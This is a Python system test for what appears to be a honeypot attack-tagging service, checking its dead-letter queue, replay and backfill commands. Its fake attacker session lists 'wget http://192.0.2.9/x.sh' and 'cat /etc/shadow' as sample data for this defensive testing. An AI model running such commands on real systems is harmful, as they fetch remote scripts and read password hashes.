# SPDX-License-Identifier: AGPL-3.0-or-later
"""Dead letters and history are handled from the command line of a running installation."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from benchmarks.installation import Installation

from decnet_ttp.runtime.bus import Envelope
from decnet_ttp.runtime.streams import DLQ_STREAM

pytestmark = [pytest.mark.system, pytest.mark.timeout(900)]

SUBJECT = "attacker.session.ended"


async def publish(installation: Installation) -> None:
    """Publish a good session, bytes that are no envelope, and a session of nobody."""
    session: dict[str, Any] = {
        "session_id": "s1",
        "attacker_ip": "198.51.100.1",
        "commands": ["wget http://192.0.2.9/x.sh", "cat /etc/shadow"],
    }
    nobody = {"session_id": "s2", "attacker_ip": "Unknown"}
    bus = await installation.bus()
    try:
        for payload in (session, nobody):
            envelope = Envelope(topic=SUBJECT, type="session.ended", payload=payload)
            await bus.js.publish(SUBJECT, envelope.encode(), headers=envelope.headers)
        await bus.js.publish(SUBJECT, b"{\x1b[31mhalf")
        await installation.settle()
        async with asyncio.timeout(120):
            while (await bus.js.stream_info(DLQ_STREAM)).state.messages < 2:
                await asyncio.sleep(0.05)
    finally:
        await bus.close()


def test_dead_letters_and_history(installation: Installation) -> None:
    asyncio.run(publish(installation))
    letters = installation.json("dlq", "list")
    assert sorted(letter["reason"] for letter in letters) == ["NO_ANCHOR", "UNDECODABLE"]
    (broken,) = installation.json("dlq", "list", "--reason", "undecodable")
    assert broken["origin_subject"] == SUBJECT
    shown = installation.run("dlq", "show", broken["sequence"])
    assert "\x1b" not in shown
    assert "half" in shown
    assert installation.run("dlq", "show", broken["sequence"], "--raw") == "{\x1b[31mhalf"
    replayed = json.loads(installation.run("dlq", "replay", broken["sequence"], "--json"))
    assert replayed == {"replayed_count": 1}
    assert installation.json("dlq", "drop", "--reason", "NO_ANCHOR", "--yes") == {
        "dropped_count": 1
    }

    tags = installation.json("tags", "--limit", "0")
    assert len(tags) >= 2
    totals = installation.json("backfill", "--since-days", "1", "--source", "command")
    assert totals["done"] is True
    assert (totals["read_count"], totals["skipped_count"]) == ("3", "2")
    assert (totals["inserted_count"], totals["known_count"]) == ("0", str(len(tags)))
    dry = installation.json("backfill", "--dry-run", "--batch-size", "1")
    assert int(dry["event_count"]) >= 2
    assert asyncio.run(installation.announcements()) != {}
    # What was replayed has been buried again by now, or waits for its turn.
    asyncio.run(installation.settle())
    status = installation.json("status")
    assert status["ingest"]["pending_count"] == "0"
    assert status["ingest"]["parked_count"] in {"0", "1"}
